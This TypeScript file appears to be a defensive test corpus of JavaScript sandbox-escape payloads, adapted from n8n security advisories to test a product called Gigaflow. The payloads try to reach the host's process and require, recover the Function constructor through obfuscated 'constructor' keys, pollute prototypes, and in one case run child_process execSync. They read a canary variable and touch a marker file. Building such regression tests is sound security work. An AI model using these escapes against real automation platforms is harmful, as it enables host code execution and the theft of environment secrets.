// n8n expression / Code-node sandbox advisories not covered in escape-corpus.ts, adapted to
// Gigaflow. Sources: n8n's security advisories index (github.com/n8n-io/n8n/security/advisories)
// and the GitHub Advisory Database entries for them; where an advisory's exact payload is not
// public the title says "(shape)" and the code follows the advisory's description of the bug.
// Advisories that are not about code running in the sandbox are tested elsewhere:
// CVE-2026-27493 (Form double evaluation), CVE-2026-27494 / CVE-2025-68668 (Python Code node) and
// CVE-2026-27497 (Merge SQL mode) in prototype-pollution.test.ts against a real host.
import type { EscapePayload } from './escape-corpus.ts';
import { ESCALATE } from './escape-corpus.ts';

export const n8nExtraCorpus: EscapePayload[] = [
  {
    id: 'GHSA-fg85-4wv2-p98j',
    title: 'n8n: free identifiers in spread, computed-key, switch-case and class-extension positions resolve to host globals (shape)',
    code: `
      const out = [];
      try { const o = { ...process }; out.push(o.env && o.env.GIGAFLOW_CANARY); } catch (e) { out.push(e.message); }
      try { const o = { [process.env.GIGAFLOW_CANARY]: 1 }; out.push(Object.keys(o)); } catch (e) { out.push(e.message); }
      try { switch (process) { case undefined: out.push('no process'); break; default: out.push(process.env.GIGAFLOW_CANARY); } } catch (e) { out.push(e.message); }
      try { class X extends (globalThis.process ? process.constructor : Object) {} out.push(typeof X); } catch (e) { out.push(e.message); }
      try { class Y extends require('events') {} out.push(typeof Y); } catch (e) { out.push(e.message); }
      try { out.push([...[global, globalThis, self, window].filter(Boolean)].map((g) => typeof g.process)); } catch (e) { out.push(e.message); }
      for (const name of ['process', 'require', 'module', 'Buffer', 'setImmediate', 'queueMicrotask', 'structuredClone', 'fetch', 'WebAssembly', 'SharedArrayBuffer', 'Atomics']) {
        try { out.push(name + ':' + typeof globalThis[name]); } catch (e) { out.push(e.message); }
      }
      return out;`,
  },
  {
    id: 'GHSA-fg85-4wv2-p98j (persistence variant)',
    title: 'n8n: a hostile expression mutates shared globals that persist into later evaluations (shape)',
    code: `
      try { globalThis.__gfPersist = 'contaminated'; } catch (e) {}
      try { Object.prototype.__gfPersist = 'contaminated'; } catch (e) {}
      try { Array.prototype.map = function () { return ['contaminated']; }; } catch (e) {}
      try { JSON.stringify = () => '"contaminated"'; } catch (e) {}
      try { Math.random = () => 4; } catch (e) {}
      try { String.prototype.toUpperCase = () => 'contaminated'; } catch (e) {}
      try { const P = Object.getPrototypeOf($input); P.all = () => [{ json: { contaminated: true } }]; } catch (e) {}
      try { DateTime.now = () => 'contaminated'; } catch (e) {}
      return 'planted';`,
  },
  {
    id: 'GHSA-9x83-43r8-5hwc',
    title: 'n8n: $fromAI resolves reserved keys (constructor, __proto__) and leaks host prototypes on primitive inputs (shape: every name-taking helper)',
    code: `
      const out = [];
      const names = ['constructor', '__proto__', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__'];
      const helpers = [
        (n) => $fromAI(n), (n) => $fromAI(n, 'desc', 'string'), (n) => $(n), (n) => $node[n], (n) => $vars[n], (n) => $json[n],
        (n) => $execution[n], (n) => $workflow[n], (n) => $input[n], (n) => $input.first().json[n], (n) => $parameter[n], (n) => $env[n],
        (n) => (1)[n], (n) => ('s')[n], (n) => (true)[n], (n) => $('Webhook').first()[n],
      ];
      for (const h of helpers) for (const n of names) {
        try { const v = h(n); const F = v && (v.constructor === Function ? v : v.constructor && v.constructor.constructor); if (typeof F === 'function') { const r = F('return typeof process')(); if (r !== 'undefined') { ${ESCALATE('F')} } } } catch (e) {}
      }
      return out;`,
  },
  {
    id: 'CVE-2026-27577 / GHSA-vpcf-gvg4-6qwr',
    title: 'n8n: AST rewriter missed SpreadElement, so `process` survived as a bare global (argument / array spread variants)',
    code: `
      const out = [];
      try { out.push(Math.max(...[process.env.GIGAFLOW_CANARY])); } catch (e) { out.push(e.message); }
      try { out.push([...Object.values({ ...process.env })].find((v) => String(v).startsWith('gigaflow-canary'))); } catch (e) { out.push(e.message); }
      try { out.push(((...a) => a[0].env.GIGAFLOW_CANARY)(...[process])); } catch (e) { out.push(e.message); }
      try { const { env: { GIGAFLOW_CANARY: c } } = { ...process }; out.push(c); } catch (e) { out.push(e.message); }
      return out;`,
  },
  {
    id: 'CVE-2025-68613 / GHSA-v98v-ff95-f3cp (template-literal key variant)',
    title: 'n8n: the 1.120.4 fix was bypassed with template-literal and escaped property names for constructor',
    code: `
      const out = [];
      for (const k of [\`constructor\`, 'con\\u0073tructor', 'constr' + 'uctor', String.fromCharCode(99, 111, 110, 115, 116, 114, 117, 99, 116, 111, 114), atob ? atob('Y29uc3RydWN0b3I=') : 'constructor']) {
        try { const F = (() => {})[k][k]; const p = F('return process')(); if (p) { out.push(p.env.GIGAFLOW_CANARY); p.mainModule.require('child_process').execSync('touch __MARKER__'); } } catch (e) { out.push(e.message); }
        try { const F = this[k][k]; out.push(F('return process')().env.GIGAFLOW_CANARY); } catch (e) { out.push(e.message); }
      }
      return out;`,
  },
  {
    id: 'n8n PR #6420 (0.233.0)',
    title: 'n8n: arbitrary code execution via expressions before the 2023 sandbox (this / globalThis / Function in tmpl)',
    code: `
      const out = [];
      try { out.push(this.process.env.GIGAFLOW_CANARY); } catch (e) { out.push(e.message); }
      try { out.push(Function('return this')().process.env.GIGAFLOW_CANARY); } catch (e) { out.push(e.message); }
      try { out.push((0, eval)('this').process.env.GIGAFLOW_CANARY); } catch (e) { out.push(e.message); }
      try { out.push(Object.getPrototypeOf(async function () {}).constructor('return process')); } catch (e) { out.push(e.message); }
      try { out.push(setTimeout.constructor('return process')().env.GIGAFLOW_CANARY); } catch (e) { out.push(e.message); }
      return out;`,
  },
  {
    id: 'CVE-2026-44789',
    title: 'n8n: user-controlled parameters pollute the prototype (HTTP Request pagination) and reach code execution (shape: pollution from inside the sandbox)',
    code: `
      const bodies = [JSON.parse('{"__proto__":{"polluted":"yes","shell":"/bin/sh","NODE_OPTIONS":"--require /tmp/x"}}'), JSON.parse('{"constructor":{"prototype":{"polluted":"yes"}}}')];
      function merge(t, s) { for (const k in s) { if (s[k] && typeof s[k] === 'object') { t[k] = t[k] || {}; merge(t[k], s[k]); } else t[k] = s[k]; } return t; }
      for (const b of bodies) { try { merge({}, b); merge($json, b); merge($input.first().json, b); merge($vars, b); } catch (e) {} }
      return { sandboxPolluted: ({}).polluted, hostDataPolluted: $json.polluted };`,
  },
];
